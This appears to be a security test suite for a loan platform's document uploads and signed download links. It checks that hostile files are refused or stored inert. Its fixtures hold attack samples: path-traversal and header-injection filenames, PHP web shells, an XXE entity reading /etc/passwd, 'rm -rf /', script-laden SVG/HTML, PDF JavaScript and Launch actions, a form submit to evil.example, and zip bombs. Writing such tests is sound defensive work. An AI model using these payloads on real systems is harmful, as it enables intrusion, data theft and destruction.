// Hostile files (issue 13, suite 4): uploads an attacker would try, through the signed upload
// links every upload path uses (staff Upload panel, personal and broker areas, custom documents,
// the application wizard) and through the template upload. Each is refused, or stored inert: the
// stored key is the server's own, and the download carries a Content-Type from the fixed table
// (never HTML, SVG or script), nosniff, a strict CSP, and `attachment` unless it is a PDF or
// image. Signed links are refused when altered or expired. Prints the tally.
import { crc32, deflateRawSync, deflateSync } from 'node:zlib';
import { eq } from 'drizzle-orm';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { documents } from '../../db/schema/index';
import { ACTIVE_PDF_MESSAGE, ZIP_BOMB_MESSAGE } from '../../integrations/storage/file-safety';
import { insertActivities } from '../../modules/loan-status/lifecycle';
import { caller, createLifecycleLoan, type Caller } from '../../modules/loan-status/lifecycle.test-helpers';
import { bearer, createTestContext, type TestContext } from '../context';

let ctx: TestContext;
let api: Caller;
beforeAll(async () => {
  ctx = await createTestContext();
  api = caller(ctx);
});
afterAll(async () => {
  await ctx?.close();
});

const PDF_TYPE = 'application/pdf';
const DOCX_TYPE = 'application/vnd.openxmlformats-officedocument.wordprocessingml.document';
const XLSX_TYPE = 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet';
const pdf = (body = '1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj') =>
  Buffer.from(`%PDF-1.7\n${body}\ntrailer << /Root 1 0 R >>\n%%EOF\n`);
const PNG_HEAD = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]);
const png = (...extra: Buffer[]) => Buffer.concat([PNG_HEAD, Buffer.alloc(64, 1), ...extra]);
const jpeg = (...segments: Buffer[]) =>
  Buffer.concat([Buffer.from([0xff, 0xd8]), ...segments, Buffer.alloc(64, 7), Buffer.from([0xff, 0xd9])]);
const pngChunk = (type: string, data: Buffer) => {
  const length = Buffer.alloc(4);
  length.writeUInt32BE(data.length);
  return Buffer.concat([length, Buffer.from(type, 'latin1'), data, Buffer.alloc(4, 0xab)]);
};
const PNG_IHDR = pngChunk('IHDR', Buffer.from([0, 0, 0, 1, 0, 0, 0, 1, 8, 2, 0, 0, 0]));
const PNG_IDAT = pngChunk('IDAT', Buffer.from([0x78, 0x9c, 0x63, 0xf8, 0xcf, 0xc0, 0, 0, 3, 1, 1, 0]));
const PNG_IEND = pngChunk('IEND', Buffer.alloc(0));
const jpegSegment = (marker: number, body: Buffer) => {
  const length = Buffer.alloc(2);
  length.writeUInt16BE(body.length + 2);
  return Buffer.concat([Buffer.from([0xff, marker]), length, body]);
};

/** A minimal zip writer: entries deflated, sizes as given (a lying header when `declared` differs). */
const zip = (entries: Array<{ name: string; data: Buffer; declared?: number }>) => {
  const locals: Buffer[] = [];
  const centrals: Buffer[] = [];
  let offset = 0;
  for (const entry of entries) {
    const compressed = deflateRawSync(entry.data, { level: 9 });
    const name = Buffer.from(entry.name);
    const size = entry.declared ?? entry.data.length;
    const local = Buffer.alloc(30);
    local.writeUInt32LE(0x04034b50, 0);
    local.writeUInt16LE(20, 4);
    local.writeUInt16LE(8, 8);
    local.writeUInt32LE(crc32(entry.data), 14);
    local.writeUInt32LE(compressed.length, 18);
    local.writeUInt32LE(size, 22);
    local.writeUInt16LE(name.length, 26);
    const central = Buffer.alloc(46);
    central.writeUInt32LE(0x02014b50, 0);
    central.writeUInt16LE(20, 4);
    central.writeUInt16LE(20, 6);
    central.writeUInt16LE(8, 10);
    central.writeUInt32LE(crc32(entry.data), 16);
    central.writeUInt32LE(compressed.length, 20);
    central.writeUInt32LE(size, 24);
    central.writeUInt16LE(name.length, 28);
    central.writeUInt32LE(offset, 42);
    locals.push(local, name, compressed);
    centrals.push(central, name);
    offset += 30 + name.length + compressed.length;
  }
  const directory = Buffer.concat(centrals);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(entries.length, 8);
  end.writeUInt16LE(entries.length, 10);
  end.writeUInt32LE(directory.length, 12);
  end.writeUInt32LE(offset, 16);
  return Buffer.concat([...locals, directory, end]);
};
const docx = (documentXml: Buffer) =>
  zip([
    { name: '[Content_Types].xml', data: Buffer.from('<Types/>') },
    { name: 'word/document.xml', data: documentXml },
  ]);
const compressedObjectStream = (text: string) => {
  const data = deflateSync(Buffer.from(text));
  return Buffer.concat([
    Buffer.from(
      `%PDF-1.7\n5 0 obj << /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length ${data.length} >>\nstream\n`,
    ),
    data,
    Buffer.from('\nendstream\nendobj\ntrailer << /Root 1 0 R >>\n%%EOF\n'),
  ]);
};

type Case = {
  name: string;
  /** The file name the client gives (only a label). */
  fileName: string;
  contentType: string;
  bytes: Buffer;
  /** 'refused' at the grant, the PUT or the run; 'stored' inert (checked on download). */
  expect: 'refused' | 'stored';
  message?: string;
  /** The bytes a download must give back when they differ from the upload (metadata removed). */
  stored?: Buffer;
};

const SAFE_TYPES = new Set([
  'application/pdf',
  'image/png',
  'image/jpeg',
  'image/gif',
  'image/bmp',
  'image/heic',
  DOCX_TYPE,
  XLSX_TYPE,
  'application/zip',
  'application/octet-stream',
]);

const cases = (): Case[] => {
  const good = pdf();
  const traversal = [
    '../../../../etc/passwd',
    '..\\..\\..\\windows\\system32\\cmd.exe',
    '/etc/shadow',
    'C:\\Windows\\win.ini',
    '%2e%2e%2f%2e%2e%2fsecret.pdf',
    'loans/../../keys/encryption.key',
    '....//....//x.pdf',
    'statement\r\nSet-Cookie: session=stolen.pdf',
    'x"; filename="evil.html',
    'invoice\u202Efdp.exe',
    '.htaccess',
  ].map((fileName): Case => ({
    name: `path name ${JSON.stringify(fileName.slice(0, 40))}`,
    fileName,
    contentType: PDF_TYPE,
    bytes: good,
    expect: 'stored',
  }));
  traversal.push({
    name: 'path name of 400 characters',
    fileName: `${'A'.repeat(400)}.pdf`,
    contentType: PDF_TYPE,
    bytes: good,
    expect: 'refused',
  });
  const doubled = ['statement.pdf.exe', 'photo.jpg.html', 'shell.php.pdf', 'scan.pdf.svg', 'run.bat.pdf'].map(
    (fileName): Case => ({
      name: `double extension ${fileName}`,
      fileName,
      contentType: PDF_TYPE,
      bytes: good,
      expect: 'stored',
    }),
  );
  const renamed: Case[] = [
    ['Windows executable', Buffer.concat([Buffer.from('MZ\x90\x00'), Buffer.alloc(256)])],
    ['Linux executable', Buffer.concat([Buffer.from('\x7fELF\x02\x01\x01'), Buffer.alloc(256)])],
    ['shell script', Buffer.from('#!/bin/sh\nrm -rf /\n')],
    ['HTML page', Buffer.from('<!doctype html><script>fetch("/api/loan/all")</script>')],
    [
      'SVG with script',
      Buffer.from(
        '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(2)</script></svg>',
      ),
    ],
    [
      'XML with an external entity',
      Buffer.from('<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>'),
    ],
    ['JavaScript', Buffer.from('alert(document.cookie)')],
    ['PHP', Buffer.from('<?php system($_GET["c"]); ?>')],
    ['PDF header 1 KB in (not at the start)', Buffer.concat([Buffer.alloc(1024, 0x20), good])],
  ].map(([name, bytes]) => ({
    name: `${String(name)} renamed as PDF`,
    fileName: 'statement.pdf',
    contentType: PDF_TYPE,
    bytes: bytes as Buffer,
    expect: 'refused',
  }));
  const announced: Case[] = [
    'text/html',
    'image/svg+xml',
    'application/x-msdownload',
    'application/javascript',
    'text/plain',
    'application/octet-stream',
    'application/pdf; charset=utf-8',
  ].map((contentType) => ({
    name: `announced ${contentType}`,
    fileName: 'file',
    contentType,
    bytes: good,
    expect: 'refused',
  }));
  const polyglots: Case[] = [
    {
      name: 'PDF + HTML polyglot',
      fileName: 'poly.pdf',
      contentType: PDF_TYPE,
      bytes: Buffer.concat([good, Buffer.from('<html><script>alert(1)</script></html>')]),
      expect: 'stored',
    },
    {
      name: 'JPEG + HTML polyglot',
      fileName: 'poly.jpg',
      contentType: 'image/jpeg',
      bytes: Buffer.concat([
        jpeg(jpegSegment(0xe0, Buffer.from('JFIF\0'))),
        Buffer.from('<script>alert(1)</script>'),
      ]),
      expect: 'stored',
    },
    {
      name: 'PNG + JavaScript polyglot',
      fileName: 'poly.png',
      contentType: 'image/png',
      bytes: png(Buffer.from('/*<script>*/alert(1)//')),
      expect: 'stored',
    },
    {
      name: 'GIF + zip (GIFAR)',
      fileName: 'poly.gif',
      contentType: 'image/gif',
      bytes: Buffer.concat([Buffer.from('GIF89a'), Buffer.alloc(32, 0), docx(Buffer.from('<w:document/>'))]),
      expect: 'stored',
    },
    {
      name: 'PNG announced as PDF',
      fileName: 'x.pdf',
      contentType: PDF_TYPE,
      bytes: png(),
      expect: 'refused',
    },
    {
      name: 'HEIC announced as PNG',
      fileName: 'x.png',
      contentType: 'image/png',
      bytes: Buffer.concat([Buffer.from([0, 0, 0, 0x18]), Buffer.from('ftypheic'), Buffer.alloc(64)]),
      expect: 'refused',
    },
  ];
  const sizes: Case[] = [
    {
      name: 'zero bytes',
      fileName: 'empty.pdf',
      contentType: PDF_TYPE,
      bytes: Buffer.alloc(0),
      expect: 'refused',
    },
    {
      name: 'over the 25 MB cap',
      fileName: 'big.pdf',
      contentType: PDF_TYPE,
      bytes: Buffer.concat([good, Buffer.alloc(25 * 1024 * 1024, 0x20)]),
      expect: 'refused',
    },
  ];
  const zeros = Buffer.alloc(150 * 1024 * 1024);
  const bombs: Case[] = [
    {
      name: 'DOCX zip bomb (150 MB of zeros)',
      fileName: 'bomb.docx',
      contentType: DOCX_TYPE,
      bytes: docx(zeros),
      expect: 'refused',
      message: ZIP_BOMB_MESSAGE,
    },
    {
      name: 'DOCX zip bomb with lying sizes',
      fileName: 'liar.docx',
      contentType: DOCX_TYPE,
      bytes: zip([{ name: 'word/document.xml', data: zeros.subarray(0, 120 * 1024 * 1024), declared: 1000 }]),
      expect: 'refused',
      message: ZIP_BOMB_MESSAGE,
    },
    {
      name: 'XLSX zip bomb (many entries)',
      fileName: 'many.xlsx',
      contentType: XLSX_TYPE,
      bytes: zip(Array.from({ length: 6000 }, (_, i) => ({ name: `xl/s${i}.xml`, data: Buffer.from('x') }))),
      expect: 'refused',
      message: ZIP_BOMB_MESSAGE,
    },
    {
      name: 'a plain DOCX (control)',
      fileName: 'letter.docx',
      contentType: DOCX_TYPE,
      bytes: docx(Buffer.from('<w:document><w:p>Hello</w:p></w:document>')),
      expect: 'stored',
    },
  ];
  const scripted: Case[] = [
    [
      'OpenAction JavaScript',
      '1 0 obj << /Type /Catalog /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >> endobj',
    ],
    ['page action JS', '3 0 obj << /Type /Page /AA << /O << /S /JavaScript /JS 9 0 R >> >> >> endobj'],
    ['Launch action', '1 0 obj << /Type /Catalog /OpenAction << /S /Launch /F (cmd.exe) >> >> endobj'],
    [
      'hex-escaped name /J#61vaScript',
      '1 0 obj << /Type /Catalog /OpenAction << /S /J#61vaScript /J#53 (x) >> >> endobj',
    ],
    ['embedded file', '1 0 obj << /Type /Catalog /Names << /EmbeddedFiles 7 0 R >> >> endobj'],
    ['XFA form', '1 0 obj << /Type /Catalog /AcroForm << /XFA 8 0 R >> >> endobj'],
    ['SubmitForm action', '4 0 obj << /S /SubmitForm /F (https://evil.example) >> endobj'],
  ].map(([name, body]) => ({
    name: `PDF with ${name}`,
    fileName: 'statement.pdf',
    contentType: PDF_TYPE,
    bytes: pdf(body),
    expect: 'refused' as const,
    message: ACTIVE_PDF_MESSAGE,
  }));
  scripted.push({
    name: 'PDF with JavaScript in a compressed object stream',
    fileName: 'x.pdf',
    contentType: PDF_TYPE,
    bytes: compressedObjectStream('6 0 << /S /JavaScript /JS (app.alert(1)) >>'),
    expect: 'refused',
    message: ACTIVE_PDF_MESSAGE,
  });
  const exif = Buffer.concat([
    Buffer.from('Exif\0\0MM\0*'),
    Buffer.from('<script>alert(1)</script><?php system("id"); ?>GPSLatitude 30.2672 GPSLongitude -97.7431'),
  ]);
  // Well-formed images (JFIF header, a scan of entropy data; IHDR, IDAT, IEND) carrying metadata:
  // stored without it, every other byte as uploaded.
  const jfif = jpegSegment(0xe0, Buffer.from('JFIF\0\x01\x01\0\0\x01\0\x01\0\0', 'latin1'));
  const scan = jpegSegment(0xda, Buffer.from([1, 1, 0, 0, 0x3f, 0]));
  const xmp = jpegSegment(
    0xe1,
    Buffer.from('http://ns.adobe.com/xap/1.0/\0<x:xmpmeta><exif:GPSLatitude>30,16N</exif:GPSLatitude>'),
  );
  const text = pngChunk('tEXt', Buffer.from('Comment\0<html><script>alert(1)</script>'));
  const exifChunk = pngChunk('eXIf', exif.subarray(6));
  const images: Case[] = [
    {
      name: 'JPEG with EXIF carrying script and GPS, and XMP with GPS',
      fileName: 'photo.jpg',
      contentType: 'image/jpeg',
      bytes: jpeg(jfif, jpegSegment(0xe1, exif), xmp, scan),
      expect: 'stored',
      stored: jpeg(jfif, scan),
    },
    {
      name: 'JPEG comment with PHP',
      fileName: 'photo.jpeg',
      contentType: 'image/jpeg',
      bytes: jpeg(jfif, jpegSegment(0xfe, Buffer.from('<?php eval($_POST[1]); ?>')), scan),
      expect: 'stored',
      stored: jpeg(jfif, scan),
    },
    {
      name: 'PNG with an HTML text chunk and GPS EXIF',
      fileName: 'scan.png',
      contentType: 'image/png',
      bytes: Buffer.concat([PNG_HEAD, PNG_IHDR, text, exifChunk, PNG_IDAT, PNG_IEND]),
      expect: 'stored',
      stored: Buffer.concat([PNG_HEAD, PNG_IHDR, PNG_IDAT, PNG_IEND]),
    },
    {
      name: 'BMP with trailing HTML',
      fileName: 'scan.bmp',
      contentType: 'image/bmp',
      bytes: Buffer.concat([
        Buffer.from('BM'),
        Buffer.alloc(64),
        Buffer.from('<html><script>alert(1)</script>'),
      ]),
      expect: 'stored',
    },
  ];
  return [
    ...traversal,
    ...doubled,
    ...renamed,
    ...announced,
    ...polyglots,
    ...sizes,
    ...bombs,
    ...scripted,
    ...images,
  ];
};

const newDocumentRequest = async () => {
  const { loan, borrower } = await createLifecycleLoan(ctx);
  const [row] = await ctx.db.transaction((tx) =>
    insertActivities(tx, [
      {
        loan_id: loan.id,
        borrower_id: borrower.id,
        entity_type: 'borrower',
        entity_id: borrower.id,
        activity_type: 'document-request',
        name: 'Bank Statement',
        document_name: 'Bank Statement',
      },
    ]),
  );
  return row!.id;
};

describe('hostile uploads', () => {
  it('each is refused or stored inert; downloads never carry an active type', async () => {
    const activityId = await newDocumentRequest();
    const all = cases();
    const tally = { refused: 0, stored: 0, wrong: [] as string[] };
    let metadataStripped = 0;
    for (const item of all) {
      const grant = await api('POST', `/activity/${activityId}/generate-document-with-presigned-url`, {
        content_type: item.contentType,
        name: item.fileName,
      });
      let outcome: 'refused' | 'stored' = 'refused';
      let message: string | undefined;
      let processId: string | undefined;
      if (grant.statusCode === 200) {
        processId = grant.json().process_id as string;
        const put = await ctx.app.inject({
          method: 'PUT',
          url: grant.json().presigned_url as string,
          payload: item.bytes,
          headers: { 'content-type': item.contentType.split(';')[0]! },
        });
        expect(put.statusCode, item.name).toBeLessThan(500);
        if (put.statusCode === 200) {
          const run = await api('POST', `/activity/${activityId}/process/${processId}/run`);
          expect(run.statusCode, item.name).toBeLessThan(500);
          if (run.statusCode === 200) outcome = 'stored';
          else message = run.json().message as string;
        } else {
          message = put.json().message as string;
        }
      } else {
        expect(grant.statusCode, item.name).toBe(400);
        message = grant.json().message as string;
      }
      tally[outcome] += 1;
      if (outcome !== item.expect) tally.wrong.push(`${item.name}: ${outcome} (${message ?? ''})`);
      if (outcome === 'refused' && item.message && message !== item.message)
        tally.wrong.push(`${item.name}: message ${message}`);
      if (outcome === 'stored') {
        // The stored key is the server's (no part of the client's name), and the download is inert.
        const [doc] = await ctx.db.select().from(documents).where(eq(documents.process_id, processId!));
        expect(doc!.storage_key, item.name).toMatch(
          /^loans\/[0-9a-f-]+\/[0-9a-f-]+\/[0-9a-f-]+\/[0-9a-f-]+\.(pdf|png|jpg|gif|bmp|heic|docx|xlsx)$/,
        );
        const link = await api('GET', `/activity/${activityId}/document/${doc!.id}/download`);
        expect(link.statusCode, item.name).toBe(200);
        const file = await ctx.app.inject({ method: 'GET', url: link.json().url as string });
        expect(file.statusCode, item.name).toBe(200);
        const type = String(file.headers['content-type']);
        expect(SAFE_TYPES.has(type), `${item.name}: ${type}`).toBe(true);
        expect(file.headers['x-content-type-options'], item.name).toBe('nosniff');
        expect(String(file.headers['content-security-policy']), item.name).toContain("script-src 'self'");
        const disposition = String(file.headers['content-disposition']);
        const previewable = /^(application\/pdf|image\/(png|jpeg|gif|bmp))$/.test(type);
        expect(
          disposition.startsWith(previewable ? 'inline;' : 'attachment;'),
          `${item.name}: ${disposition}`,
        ).toBe(true);
        // One header, no injected parameters or lines.
        expect(disposition, item.name).not.toMatch(/[\r\n]|filename="[^"]*"[^;]*filename="/);
        expect(file.headers['set-cookie'], item.name).toBeUndefined();
        expect(file.rawPayload.equals(item.stored ?? item.bytes), item.name).toBe(true);
        if (item.stored) {
          // Downloaded back without the GPS position, the EXIF block or the script text.
          for (const trace of ['GPS', 'Exif', 'xmpmeta', '<script', '<?php'])
            expect(file.rawPayload.includes(trace), `${item.name}: ${trace}`).toBe(false);
          metadataStripped += 1;
        }
      }
    }
    console.log(
      `[security] hostile files: ${all.length} uploads, refused ${tally.refused}, stored inert ${tally.stored} (${metadataStripped} images stored without their metadata), unexpected ${tally.wrong.length}`,
    );
    expect(tally.wrong).toEqual([]);
    expect(all.length).toBeGreaterThanOrEqual(40);
    expect(metadataStripped).toBe(3);
  });

  it('signed links are refused when altered or expired', async () => {
    const activityId = await newDocumentRequest();
    const grant = await api('POST', `/activity/${activityId}/generate-document-with-presigned-url`, {
      content_type: PDF_TYPE,
      name: 'statement.pdf',
    });
    const uploadUrl = grant.json().presigned_url as string;
    const token = uploadUrl.split('/').pop()!;
    const altered = [
      uploadUrl.replace(/.$/, (c) => (c === 'A' ? 'B' : 'A')),
      uploadUrl.replace(token, token.slice(0, -10)),
      uploadUrl.replace(token, Buffer.from('{"key":"../../keys/encryption.key"}').toString('base64url')),
      `${uploadUrl}%2F..%2F..%2Fkeys`,
    ];
    for (const url of altered) {
      const put = await ctx.app.inject({
        method: 'PUT',
        url,
        payload: pdf(),
        headers: { 'content-type': PDF_TYPE },
      });
      expect([403, 404], url).toContain(put.statusCode);
    }
    expect(
      (
        await ctx.app.inject({
          method: 'PUT',
          url: uploadUrl,
          payload: pdf(),
          headers: { 'content-type': PDF_TYPE },
        })
      ).statusCode,
    ).toBe(200);
    const processId = grant.json().process_id as string;
    expect((await api('POST', `/activity/${activityId}/process/${processId}/run`)).statusCode).toBe(200);
    const [doc] = await ctx.db.select().from(documents).where(eq(documents.process_id, processId));
    const url = (await api('GET', `/activity/${activityId}/document/${doc!.id}/download`)).json()
      .url as string;
    const download = (target: string) => ctx.app.inject({ method: 'GET', url: target });
    expect((await download(url)).statusCode).toBe(200);
    const badLinks = [
      url.replace(/sig=[^&]+/, 'sig=forged'),
      url.replace(/exp=\d+/, (m) => `exp=${Number(m.slice(4)) + 3600}`),
      url.replace(/exp=\d+/, 'exp=1000'),
      url.replace(/\.pdf\?/, '.html?'),
      url.replace(/loans\/[0-9a-f-]+/, 'loans/00000000-0000-0000-0000-000000000000'),
      url.includes('name=') ? url.replace(/name=[^&]+/, 'name=evil.html') : `${url}&name=evil.html`,
      url.replace('/api/files/', '/api/files/../keys/'),
    ];
    for (const target of badLinks) {
      const response = await download(target);
      expect([400, 403, 404], target).toContain(response.statusCode);
    }
    // An expired link (signed in the past by the storage itself).
    const expired = await ctx.deps.storage.signedDownloadUrl(doc!.storage_key, { expiresIn: -10 });
    expect((await download(expired)).statusCode).toBe(403);
  });

  it('bytes that reached storage without the upload check (S3 mode) are checked when the process runs', async () => {
    const activityId = await newDocumentRequest();
    for (const [contentType, bytes, message] of [
      [
        PDF_TYPE,
        pdf('1 0 obj << /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >> endobj'),
        ACTIVE_PDF_MESSAGE,
      ],
      [
        DOCX_TYPE,
        zip([{ name: 'word/document.xml', data: Buffer.alloc(120 * 1024 * 1024), declared: 5 }]),
        ZIP_BOMB_MESSAGE,
      ],
    ] as const) {
      const grant = await api('POST', `/activity/${activityId}/generate-document-with-presigned-url`, {
        content_type: contentType,
        name: 'direct',
      });
      const processId = grant.json().process_id as string;
      const [doc] = await ctx.db.select().from(documents).where(eq(documents.process_id, processId));
      await ctx.deps.storage.put(doc!.storage_key, bytes, { contentType });
      const run = await api('POST', `/activity/${activityId}/process/${processId}/run`);
      expect(run.statusCode).toBe(400);
      expect(run.json().message).toBe(message);
      expect(await ctx.deps.storage.exists(doc!.storage_key)).toBe(false);
    }
  });

  it('template uploads refuse zip bombs and non-DOCX bytes', async () => {
    const upload = (bytes: Buffer) =>
      ctx.app.inject({
        method: 'PUT',
        url: '/api/activity-templates/document-template/term-sheet',
        headers: { ...bearer(ctx.tokens.admin), 'content-type': 'application/octet-stream' },
        payload: bytes,
      });
    const bomb = await upload(
      zip([{ name: 'word/document.xml', data: Buffer.alloc(9 * 1024 * 1024), declared: 10 }]),
    );
    expect(bomb.statusCode).toBe(400);
    const html = await upload(Buffer.from('<html><script>alert(1)</script></html>'));
    expect(html.statusCode).toBe(400);
    const svg = await upload(Buffer.from('<svg onload="alert(1)"/>'));
    expect(svg.statusCode).toBe(400);
  });
});
